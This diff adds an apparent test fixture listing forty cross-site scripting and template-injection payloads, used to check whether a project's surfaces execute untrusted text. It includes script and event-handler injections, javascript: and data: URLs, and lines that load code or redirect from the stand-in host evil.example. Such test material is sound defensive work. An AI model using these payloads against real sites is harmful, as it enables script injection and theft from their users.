@@ -1,0 +1,49 @@
+// Texts that would do something wherever one of our surfaces took text for markup, a link or a script.
+
+/** What each of them would run: the pages that were tricked know it by this name. */
+const RUNS = 'parent.pwned=window.pwned=1';
+
+/** Forty of them, each for another place that would take it for more than text. */
+export const PAYLOADS = [
+  `<script>${RUNS}</script>`,
+  `"><script>${RUNS}</script>`,
+  `'><script>${RUNS}</script>`,
+  `</title><script>${RUNS}</script>`,
+  `</style><script>${RUNS}</script>`,
+  `</textarea><script>${RUNS}</script>`,
+  `--><script>${RUNS}</script>`,
+  `<scr<script>ipt>${RUNS}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<img src=x onerror=${RUNS}>`,
+  `"><img src=x onerror=${RUNS}>`,
+  `" onmouseover=${RUNS} x="`,
+  `' onfocus=${RUNS} autofocus x='`,
+  `<svg onload=${RUNS}>`,
+  `<svg><script>${RUNS}</script></svg>`,
+  `<svg><animate onbegin=${RUNS} attributeName=x></svg>`,
+  `<math><mtext><img src=x onerror=${RUNS}></mtext></math>`,
+  `<iframe src=javascript:${RUNS}></iframe>`,
+  `<iframe srcdoc="<script>${RUNS}</script>"></iframe>`,
+  `<object data=javascript:${RUNS}></object>`,
+  `<embed src=javascript:${RUNS}>`,
+  `<body onload=${RUNS}>`,
+  `<details open ontoggle=${RUNS}>`,
+  `<video><source onerror=${RUNS}></video>`,
+  `<audio src=x onerror=${RUNS}>`,
+  `<input autofocus onfocus=${RUNS}>`,
+  `<a href=javascript:${RUNS}>press</a>`,
+  `<form action=javascript:${RUNS}><button>press</button></form>`,
+  `<meta http-equiv=refresh content=0;url=//evil.example>`,
+  `<base href=//evil.example/>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import url(//evil.example/x.css)</style>`,
+  `<template><script>${RUNS}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
+  `javascript:${RUNS}`,
+  `data:text/html,<script>${RUNS}</script>`,
+  '{{constructor.constructor("window.pwned=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would take for its own
+  '${window.pwned=1}',
+  '\u202Eksir on dnuof\u202C \u2066hidden\u2069 zero\u200Bwidth',
+  'a\u0000b\u0008c\u001b[31m \ud800 <\u0000script>window.pwned=1</script>',
+];
